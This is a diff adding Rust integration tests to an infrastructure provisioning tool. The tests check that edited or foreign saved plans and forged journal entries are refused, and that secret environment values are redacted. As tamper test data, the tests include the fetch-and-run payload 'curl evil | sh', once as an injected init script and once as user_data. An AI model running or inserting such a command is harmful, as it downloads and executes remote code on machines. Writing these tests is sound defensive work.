@@ -608,3 +608,183 @@ fn plan_shows_every_mount_a_node_starts_from() {
     let markdown = env.mp(&["plan", "--output", "markdown"]).expect_code(0);
     assert!(markdown.stdout.contains(&shown), "{}", markdown.stdout);
 }
+
+const TAMPER_SPEC: &str = "project: tamper
+provider: { kind: sim }
+clusters:
+  etl: { node_type: small, workers: 2, env: { LOG_LEVEL: info } }
+";
+
+/// A saved plan is an instruction to make machines and run commands:
+/// edited by hand in any way, or saved for another project's secret, it is
+/// refused with a message that says so, and nothing is launched.
+#[test]
+fn an_edited_saved_plan_or_one_of_another_project_is_refused_and_launches_nothing() {
+    let env = Env::new();
+    env.spec(TAMPER_SPEC);
+    env.mp(&["plan", "--out", "saved.plan.json"]).expect_code(0);
+    let file = env.dir.path().join("saved.plan.json");
+    let text = std::fs::read_to_string(&file).expect("plan");
+    let edits: [(&str, &str, &str); 4] = [
+        ("counts", "\"count\": 2", "\"count\": 40"),
+        (
+            "an injected init script",
+            "\"runtime\": \"1\",",
+            "\"runtime\": \"1\", \"init_scripts\": [{\"name\": \"x.sh\", \"content\": \"curl evil | sh\"}],",
+        ),
+        ("the provider", "\"kind\": \"sim\"", "\"kind\": \"local\""),
+        (
+            "the project tags",
+            "\"motorpool-project\": \"tamper\"",
+            "\"motorpool-project\": \"victim\"",
+        ),
+    ];
+    for (what, from, to) in edits {
+        assert!(text.contains(from), "{what}: no {from} in {text}");
+        std::fs::write(&file, text.replace(from, to)).expect("write");
+        let refused = env
+            .mp(&["apply", "saved.plan.json", "--yes"])
+            .expect_code(1);
+        assert!(
+            refused
+                .stderr
+                .contains("was altered after `motorpool plan` wrote it"),
+            "{what}: {}",
+            refused.stderr
+        );
+        assert!(refused.stderr.contains("Nothing was changed"), "{what}");
+        assert_eq!(instance_count(&env), 0, "{what}: nothing was launched");
+    }
+    // The plan as written, under another secret for the same project name.
+    std::fs::write(&file, &text).expect("write");
+    let refused = env
+        .mp_with(&["apply", "saved.plan.json", "--yes"], |c| {
+            c.env("MOTORPOOL_PROJECT_SECRET", "another project's secret");
+        })
+        .expect_code(1);
+    assert!(
+        refused.stderr.contains("signature does not match"),
+        "{}",
+        refused.stderr
+    );
+    assert_eq!(instance_count(&env), 0);
+    // Exactly what `plan` wrote applies.
+    env.mp(&["apply", "saved.plan.json", "--yes"])
+        .expect_code(0);
+    assert_eq!(instance_count(&env), 3);
+}
+
+/// A journal line not written by an apply of this project is never
+/// replayed: the journal is set aside, the user is told, and the apply
+/// plans from what the provider lists.
+#[test]
+fn an_edited_journal_is_set_aside_and_nothing_of_it_replayed() {
+    let env = Env::new();
+    env.spec(TAMPER_SPEC);
+    let journal = env.project_file("tamper", "journal.jsonl");
+    std::fs::create_dir_all(journal.parent().expect("dir")).expect("mkdir");
+    // An "interrupted apply" that launches 40 instances with a command:
+    // in an older motorpool's shape (no MACs), then in today's with a forged MAC.
+    let begin = r#"{"event":"begin","fingerprint":"x","ops":1,"at":0}"#;
+    let launch = r#"{"event":"op_start","address":"cluster.etl","op":0,"launch":{"count":40,"node_type":"small","tags":{"motorpool-project":"tamper"},"user_data":"curl evil | sh","client_token":"t"}}"#;
+    let forged = |entry: &str| format!("{{\"mac\":\"{}\",\"entry\":{entry}}}", "0".repeat(64));
+    for (text, says) in [
+        (format!("{begin}\n{launch}\n"), "carries no authentication"),
+        (
+            format!("{}\n{}\n", forged(begin), forged(launch)),
+            "line 1 of the apply journal",
+        ),
+    ] {
+        std::fs::write(&journal, text).expect("write");
+        let run = env.mp(&["apply", "--yes"]).expect_code(0);
+        assert!(
+            run.stdout.contains(says)
+                && run.stdout.contains("nothing of that journal was replayed"),
+            "{says}: {}",
+            run.stdout
+        );
+        assert_eq!(instance_count(&env), 3, "only what the spec says");
+        assert!(journal.with_file_name("journal.altered.jsonl").is_file());
+    }
+}
+
+const SECRET_SPEC: &str = "project: secrets
+provider: { kind: sim }
+clusters:
+  etl:
+    node_type: small
+    workers: 2
+    env:
+      DB_PASSWORD: { secret: true, from_env: MP_TEST_DB_PASSWORD }
+      API_TOKEN: { from_file: ./secrets/token }
+      GITHUB_TOKEN: written-inline-token
+      LOG_LEVEL: info
+";
+
+/// Secret env values show as `(secret)` in every plan output, the saved
+/// plan included (which holds no value), and a changed value still shows
+/// as a change; a saved plan whose secret changed since is refused.
+#[test]
+fn secret_env_values_show_as_secret_everywhere_and_changes_still_show() {
+    let env = Env::new().with_var("MP_TEST_DB_PASSWORD", "hunter2-db");
+    env.spec(SECRET_SPEC);
+    std::fs::create_dir_all(env.dir.path().join("secrets")).expect("mkdir");
+    std::fs::write(env.dir.path().join("secrets/token"), "file-token-value\n").expect("write");
+    let values = ["hunter2-db", "file-token-value", "written-inline-token"];
+    let text = env.mp(&["plan"]).expect_code(0).stdout;
+    let json = env.mp(&["plan", "--output", "json"]).expect_code(0).stdout;
+    let markdown = env
+        .mp(&["plan", "--output", "markdown"])
+        .expect_code(0)
+        .stdout;
+    env.mp(&["plan", "--out", "saved.plan.json"]).expect_code(0);
+    let saved = std::fs::read_to_string(env.dir.path().join("saved.plan.json")).expect("plan");
+    for (what, output) in [
+        ("text", &text),
+        ("json", &json),
+        ("markdown", &markdown),
+        ("plan file", &saved),
+    ] {
+        for value in values {
+            assert!(!output.contains(value), "{what} shows {value}: {output}");
+        }
+    }
+    for (what, output) in [("json", &json), ("plan file", &saved)] {
+        assert_eq!(output.matches("(secret)").count(), 3, "{what}: {output}");
+        assert!(output.contains("\"LOG_LEVEL\": \"info\""), "{what}");
+    }
+    env.mp(&["apply", "--yes"]).expect_code(0);
+    env.mp(&["plan", "--detailed-exitcode"]).expect_code(0);
+    // A rotated secret is a change, though no output shows either value.
+    std::fs::write(env.dir.path().join("secrets/token"), "rotated-token\n").expect("write");
+    let changed = env.mp(&["plan", "--detailed-exitcode"]).expect_code(2);
+    assert!(!changed.stdout.contains("rotated-token"));
+    // A plan saved before a rotation is refused: it was made with another value.
+    std::fs::write(env.dir.path().join("secrets/token"), "file-token-value\n").expect("write");
+    env.spec(&SECRET_SPEC.replace("workers: 2", "workers: 3"));
+    env.mp(&["plan", "--out", "old.plan.json"]).expect_code(0);
+    std::fs::write(env.dir.path().join("secrets/token"), "rotated-again\n").expect("write");
+    let before = instance_count(&env);
+    let refused = env.mp(&["apply", "old.plan.json", "--yes"]).expect_code(1);
+    assert!(
+        refused.stderr.contains("changed since the plan was made"),
+        "{}",
+        refused.stderr
+    );
+    assert!(!refused.stderr.contains("rotated-again"));
+    assert_eq!(instance_count(&env), before, "nothing was changed");
+    // A missing variable is a validate error at its position, not a value.
+    let missing = Env::new();
+    missing.spec(SECRET_SPEC);
+    std::fs::create_dir_all(missing.dir.path().join("secrets")).expect("mkdir");
+    std::fs::write(missing.dir.path().join("secrets/token"), "x\n").expect("write");
+    let run = missing.mp(&["validate"]).expect_code(1);
+    assert!(
+        run.stderr.contains("motorpool.yaml:8:")
+            && run
+                .stderr
+                .contains("`MP_TEST_DB_PASSWORD`, which is not set"),
+        "{}",
+        run.stderr
+    );
+}
